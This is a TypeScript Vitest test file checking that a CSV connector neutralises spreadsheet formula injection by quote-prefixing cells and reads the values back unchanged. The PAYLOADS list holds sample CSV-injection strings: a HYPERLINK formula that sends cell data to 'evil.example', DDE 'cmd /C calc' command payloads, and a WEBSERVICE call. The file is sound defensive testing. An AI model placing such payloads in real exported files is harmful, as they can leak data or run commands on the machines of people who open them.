/** CSV injection (issue 14): csv targets neutralise formulas by default, read them back unchanged. */
import { mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { neutralizeFormula, unneutralizeFormula } from '../../../src/connectors/csv/csv-formula.js';
import { connectorFactory } from '../../../src/connectors/registry.js';
import type { ImportBatch } from '../../../src/connectors/sdk.js';
import { testContext } from '../sql/test-context.js';

const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '=1+1', '-', '+'];
const PLAIN = ['+49 30 1234567', '-5', '+1 (555) 123-4567', '-3.25', '+1e5', '030/123-45', 'Ada', "O'Brien", '', "'quoted'", 'a=b'];

describe('neutralizeFormula', () => {
  it('prefixes every formula payload with a quote and leaves numbers, phone numbers and text alone', () => {
    for (const value of PAYLOADS) expect(neutralizeFormula(value), value).toBe(`'${value}`);
    for (const value of PLAIN) expect(neutralizeFormula(value), value).toBe(value);
  });

  it('round-trips every value, including ones that start with a quote ahead of a formula', () => {
    for (const value of [...PAYLOADS, ...PLAIN, "'=1+1", "''=1+1", "'+cmd", "'", "''"]) expect(unneutralizeFormula(neutralizeFormula(value)), value).toBe(value);
    expect(neutralizeFormula("'=1+1")).toBe("''=1+1");
  });
});

const root = mkdtempSync(join(tmpdir(), 'imesh-csv-formula-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

async function open(name: string, extra: Record<string, unknown> = {}) {
  const config = join(root, name, 'config');
  mkdirSync(config, { recursive: true });
  const spec = { type: 'csv', objectTypes: { entry: { file: '../phonebook.csv', externalIdColumn: 'id', ...extra } } };
  const connector = await connectorFactory('csv')(testContext({ name: 'phonebook', type: 'csv', spec, configPath: config, workDir: join(root, name) }));
  return { connector, file: join(root, name, 'phonebook.csv') };
}

async function read(connector: Awaited<ReturnType<typeof open>>['connector']): Promise<Map<string, Record<string, unknown>>> {
  const batches: ImportBatch[] = [];
  for await (const batch of connector.fullImport('entry')) batches.push(batch);
  return new Map(batches.flatMap((b) => b.objects).map((o) => [o.externalId, { ...o.attributes }]));
}

describe('a csv target', () => {
  it('writes formula payloads with a leading quote and reads back the value that was exported', async () => {
    const { connector, file } = await open('default');
    const creates = PAYLOADS.map((title, i) => ({ id: String(i), op: 'create' as const, key: `E${i}`, attributes: { id: `E${i}`, title, phone: '+49 30 1234567' } }));
    expect((await connector.export('entry', creates)).every((r) => r.ok)).toBe(true);
    const text = readFileSync(file, 'utf8');
    expect(text).toContain(`E0,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(text).toContain(`E1,'+cmd|' /C calc'!A0`);
    expect(text).toContain(`E3,'-2+3+cmd|' /C calc'!A0`);
    expect(text).toContain(',+49 30 1234567');
    for (const line of text.split('\n').slice(1).filter(Boolean)) expect(line, line).toMatch(/^E\d+,("?)'/);
    const rows = await read(connector);
    PAYLOADS.forEach((title, i) => expect(rows.get(`E${i}`)).toEqual({ id: `E${i}`, title, phone: '+49 30 1234567' }));

    // An update of another cell keeps the neutralised one as it is; an update of it writes the new value neutralised.
    await connector.export('entry', [
      { id: 'u1', op: 'update', externalId: 'E0', attributes: { phone: { from: '+49 30 1234567', to: '=WEBSERVICE("http://x")' } } },
      { id: 'u2', op: 'update', externalId: 'E1', attributes: { title: { from: PAYLOADS[1], to: 'Engineer' } } },
    ]);
    const after = await read(connector);
    expect(after.get('E0')).toEqual({ id: 'E0', title: PAYLOADS[0], phone: '=WEBSERVICE("http://x")' });
    expect(after.get('E1')).toEqual({ id: 'E1', title: 'Engineer', phone: '+49 30 1234567' });
    expect(readFileSync(file, 'utf8')).toContain(`'=WEBSERVICE(`);
  });

  it('neutralizeFormulas: false writes and reads cells as they are', async () => {
    const { connector, file } = await open('raw', { neutralizeFormulas: false });
    await connector.export('entry', [{ id: '1', op: 'create', key: 'E1', attributes: { id: 'E1', title: '=1+1', note: "'=2" } }]);
    expect(readFileSync(file, 'utf8')).toBe("id,title,note\nE1,=1+1,'=2\n");
    expect((await read(connector)).get('E1')).toEqual({ id: 'E1', title: '=1+1', note: "'=2" });
  });
});
